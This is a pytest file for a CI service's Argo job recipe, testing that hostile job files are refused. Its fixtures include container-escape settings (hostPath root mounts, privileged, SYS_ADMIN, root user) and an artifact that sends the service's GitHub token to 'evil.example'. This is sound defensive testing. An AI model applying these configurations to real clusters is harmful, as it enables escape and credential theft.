@@ -1,0 +1,264 @@
+"""Hostile job files through the one recipe the worker and ``forgeflow render`` use: a job
+reaches only what its repository was granted, and raw Argo stays inside the fence. Every
+refusal names the file, the line and the key."""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+
+import pytest
+
+from service.events import Event, EventKind, PullRequest, Repository
+from service.jobs.errors import JobFileError
+from service.jobs.matcher import ChangedFiles
+from service.runs.recipe import Planned, plan_event, workflow
+from service.runs.trust import APPROVED_UNTRUSTED_CODE, TRUSTED, Trust
+from service.settings import Settings, SettingsError, load_settings
+
+OCTO = Repository("octo", "hello", "https://github.com/octo/hello.git", default_branch="main")
+EVIL = Repository("evil", "hello", "https://github.com/evil/hello.git", default_branch="main")
+POLICY = {
+    "match": "octo/*",
+    "namespace": "ci-octo",
+    "secrets": [{"name": "deploy-token", "events": ["tag", "push"]}, "pypi"],
+}
+
+
+@dataclass
+class Files:
+    """The repository's files at every ref (a dict), as the recipe reads them."""
+
+    files: dict[str, str]
+
+    def read(self, path: str, ref: str) -> str | None:
+        return self.files.get(path)
+
+    def changed_files(self, event: Event) -> ChangedFiles:
+        return lambda: None
+
+
+def settings(**overrides: object) -> Settings:
+    values: dict[str, object] = {"executor": "argo", "namespace": "forgeflow-runs", "repositories": [POLICY]}
+    values.update(overrides)
+    return load_settings(environ={}, overrides=values)
+
+
+def event(kind: EventKind = EventKind.PUSH, repo: Repository = OCTO) -> Event:
+    if kind is EventKind.PULL_REQUEST:
+        fork = Repository("mallory", "hello", "https://github.com/mallory/hello.git")
+        pr = PullRequest(3, author="mallory", target_branch="main", source_repo=fork, fork=True)
+        return Event("github", kind, repo, "c" * 40, action="opened", pull_request=pr)
+    if kind is EventKind.TAG:
+        return Event("github", kind, repo, "b" * 40, ref="refs/tags/v1", tag="v1")
+    return Event("github", kind, repo, "a" * 40, ref="refs/heads/main", branch="main")
+
+
+def plan(text: str, ev: Event | None = None, trust: Trust = TRUSTED, **overrides: object) -> Planned:
+    planned = plan_event(Files({".forgeflow.yaml": text}), settings(**overrides), ev or event(), trust)
+    assert planned is not None
+    return planned
+
+
+def refusals(text: str, ev: Event | None = None, **overrides: object) -> list[str]:
+    with pytest.raises(JobFileError) as caught:
+        plan(text, ev, **overrides)
+    return [str(p) for p in caught.value.problems]
+
+
+def line_of(text: str, fragment: str) -> int:
+    return next(n for n, line in enumerate(text.splitlines(), start=1) if fragment in line)
+
+
+ON_ALL = "    on: [push, tag, pull_request]\n"
+
+
+@pytest.mark.parametrize("secret", ["forgeflow", "someone-elses-token"])
+def test_a_secret_never_granted_is_refused_at_its_line_saying_where_to_grant_it(secret: str):
+    text = f"version: 1\njobs:\n  steal:\n    secrets: [pypi, {secret}]\n    steps: [env]\n"
+    (problem,) = refusals(text)
+    assert problem.startswith(
+        f".forgeflow.yaml:4:21: jobs.steal.secrets[1]: the Secret '{secret}' is not granted"
+    )
+    assert "octo/hello" in problem and "repositories[0] (match: 'octo/*')" in problem
+
+
+def test_a_repository_no_policy_matches_gets_no_secret_at_all():
+    text = "version: 1\njobs:\n  steal:\n    secrets: [deploy-token]\n    steps: [env]\n"
+    (problem,) = refusals(text, event(repo=EVIL))
+    assert "'deploy-token' is not granted to evil/hello" in problem
+    assert "none matches yet" in problem
+
+
+def test_a_granted_secret_reaches_only_its_event_kinds():
+    text = (
+        "version: 1\njobs:\n  deploy:\n" + ON_ALL + "    secrets: [deploy-token]\n    steps: [make deploy]\n"
+    )
+    for kind in (EventKind.PUSH, EventKind.TAG):
+        planned = plan(text, event(kind))
+        assert planned.plan is not None and [t.secrets for t in planned.plan.tasks] == [("deploy-token",)]
+        manifest = workflow(planned.plan, 1, "https://ci.example")
+        (pod,) = [t for t in manifest["spec"]["templates"] if t["name"] == "deploy"]
+        assert pod["container"]["envFrom"] == [{"secretRef": {"name": "deploy-token"}}]
+        assert pod["volumes"] == [{"name": "secret-0", "secret": {"secretName": "deploy-token"}}]
+    # a trusted pull request (not a fork's): granted, but not for pull requests
+    inside = Event(
+        "github", EventKind.PULL_REQUEST, OCTO, "d" * 40, action="opened", pull_request=PullRequest(4)
+    )
+    planned = plan(text, inside)
+    assert planned.plan is not None and not planned.plan.tasks
+    (refused,) = planned.plan.refused
+    assert refused.reason == (
+        "not run: the Secret 'deploy-token' is granted to octo/hello only for tag, push, not pull_request"
+    )
+
+
+def test_untrusted_runs_never_get_a_secret_even_a_granted_one():
+    text = "version: 1\njobs:\n  deploy:\n" + ON_ALL + "    secrets: [pypi]\n    steps: [make deploy]\n"
+    planned = plan(text, event(EventKind.PULL_REQUEST), APPROVED_UNTRUSTED_CODE)
+    assert planned.plan is not None and not planned.plan.tasks
+    assert planned.plan.refused[0].reason == "not run: untrusted runs never get secrets (pypi)"
+
+
+def test_allow_secrets_false_still_turns_every_grant_off():
+    text = "version: 1\njobs:\n  deploy:\n    secrets: [pypi]\n    steps: [x]\n"
+    (problem,) = refusals(text, repositories=[{**POLICY, "allow_secrets": False}])
+    assert "does not allow Kubernetes Secrets for octo/hello" in problem
+
+
+RAW = """\
+version: 1
+jobs:
+  raw:
+    argo:
+      entrypoint: main
+      templates:
+      - name: main
+%s
+"""
+HOSTILE = {
+    "resource": ("        resource: {action: create, manifest: 'kind: Pod'}", "resource"),
+    "hostPath": (
+        "        volumes: [{name: host, hostPath: {path: /}}]\n"
+        "        container: {image: x, volumeMounts: [{name: host, mountPath: /host}]}",
+        "hostPath",
+    ),
+    "pvc": (
+        "        volumes: [{name: data, persistentVolumeClaim: {claimName: other}}]\n"
+        "        container: {image: x, volumeMounts: [{name: data, mountPath: /data}]}",
+        "volumes[0]",
+    ),
+    "projected token": (
+        "        volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t}}]}}]\n"
+        "        container: {image: x, volumeMounts: [{name: t, mountPath: /t}]}",
+        "volumes[0]",
+    ),
+    "podSpecPatch": (
+        "        podSpecPatch: '{\"hostNetwork\": true}'\n        container: {image: x}",
+        "podSpecPatch",
+    ),
+    "hostNetwork": ("        container: {image: x}\n        hostNetwork: true", "hostNetwork"),
+    "privileged": ("        container: {image: x, securityContext: {privileged: true}}", "privileged"),
+    "allowPrivilegeEscalation": (
+        "        container: {image: x, securityContext: {allowPrivilegeEscalation: true}}",
+        "allowPrivilegeEscalation",
+    ),
+    "capabilities": (
+        "        container: {image: x, securityContext: {capabilities: {add: [SYS_ADMIN]}}}",
+        "capabilities",
+    ),
+    "root": ("        container: {image: x, securityContext: {runAsUser: 0}}", "runAsUser"),
+    "serviceAccountName": (
+        "        serviceAccountName: argo-server\n        container: {image: x}",
+        "serviceAccountName",
+    ),
+    "automountServiceAccountToken": (
+        "        automountServiceAccountToken: true\n        container: {image: x}",
+        "automountServiceAccountToken",
+    ),
+    "sidecar": (
+        "        container: {image: x}\n"
+        "        sidecars: [{name: s, image: x, securityContext: {privileged: true}}]",
+        "privileged",
+    ),
+    "memoize": (
+        "        memoize: {key: k, maxAge: 1h, cache: {configMap: {name: workflow-controller-configmap}}}\n"
+        "        container: {image: x}",
+        "memoize",
+    ),
+    "artifact credentials": (
+        "        inputs:\n          artifacts:\n            - name: loot\n              path: /tmp/l\n"
+        "              git:\n                repo: https://evil.example/x.git\n"
+        "                passwordSecret: {name: forgeflow, key: FORGEFLOW_GITHUB_TOKEN}\n"
+        "        container: {image: x}",
+        "passwordSecret",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE))
+def test_raw_argo_outside_the_fence_is_refused_at_its_line_and_key(case: str):
+    body, key = HOSTILE[case]
+    text = RAW % body
+    found = refusals(text)
+    assert found, case
+    line = line_of(text, key.split("[")[0] if key != "volumes[0]" else "volumes")
+    assert any(p.startswith(f".forgeflow.yaml:{line}:") and key in p.split(": ", 2)[1] for p in found), found
+
+
+def test_the_policy_can_allow_a_named_exception_for_one_repository():
+    text = RAW % HOSTILE["resource"][0]
+    assert "argo_allow: [resource]" in refusals(text)[0]  # the refusal says how to allow it
+    allowed = {**POLICY, "argo_allow": ["resource"]}
+    planned = plan(text, repositories=[allowed])
+    assert planned.plan is not None and planned.plan.tasks
+    assert refusals(text, event(repo=EVIL), repositories=[allowed, {"match": "*"}])  # only octo/*
+
+
+def test_raw_argo_inside_the_fence_gets_the_restricted_security_context():
+    text = RAW % "        container: {image: x, securityContext: {capabilities: {add: [NET_BIND_SERVICE]}}}"
+    planned = plan(text)
+    assert planned.plan is not None
+    manifest = workflow(planned.plan, 2, "https://ci.example")
+    (raw,) = [t for t in manifest["spec"]["templates"] if t["name"] == "raw-main"]
+    assert raw["container"]["securityContext"] == {
+        "allowPrivilegeEscalation": False,
+        "capabilities": {"add": ["NET_BIND_SERVICE"], "drop": ["ALL"]},
+    }
+    assert manifest["spec"]["securityContext"] == {
+        "runAsNonRoot": True,
+        "runAsUser": 1000,
+        "seccompProfile": {"type": "RuntimeDefault"},
+    }
+    relaxed = plan(text, repositories=[{**POLICY, "pod_security": "baseline"}])
+    assert relaxed.plan is not None
+    spec = workflow(relaxed.plan, 2, "https://ci.example")["spec"]
+    assert spec["securityContext"] == {"seccompProfile": {"type": "RuntimeDefault"}}
+
+
+def test_a_private_repository_checks_out_with_the_runs_own_secret_never_the_token():
+    private = Repository("octo", "secret", "https://github.com/octo/secret.git", private=True)
+    planned = plan("version: 1\njobs:\n  build:\n    steps: [make]\n", event(repo=private))
+    assert planned.plan is not None
+    manifest = workflow(planned.plan, 9, "https://ci.example")
+    name = manifest["metadata"]["name"]
+    (pod,) = [t for t in manifest["spec"]["templates"] if t["name"] == "build"]
+    git = pod["inputs"]["artifacts"][0]["git"]
+    assert git["usernameSecret"] == {"name": f"{name}-checkout", "key": "username"}
+    assert git["passwordSecret"] == {"name": f"{name}-checkout", "key": "password"}
+    public = plan("version: 1\njobs:\n  build:\n    steps: [make]\n")
+    assert public.plan is not None and not public.plan.checkout_secret
+
+
+@pytest.mark.parametrize("name", ["forgeflow-12-abcdef0-checkout", "Not_A_Name"])
+def test_the_config_cannot_grant_a_runs_own_checkout_secret_or_a_bad_name(name: str):
+    with pytest.raises(SettingsError):
+        settings(repositories=[{"match": "*", "secrets": [name]}])
+
+
+def test_workflows_never_run_in_the_services_own_namespace_unless_accepted():
+    with pytest.raises(SettingsError) as caught:
+        settings(service_namespace="ci-octo")
+    assert "repositories[0].namespace is 'ci-octo'" in str(caught.value)
+    assert settings(service_namespace="ci-octo", allow_workflows_in_service_namespace=True)
+    assert settings(service_namespace="forgeflow")  # neither forgeflow-runs nor ci-octo
+    assert settings(service_namespace="ci-octo", executor="local")  # no Kubernetes at all
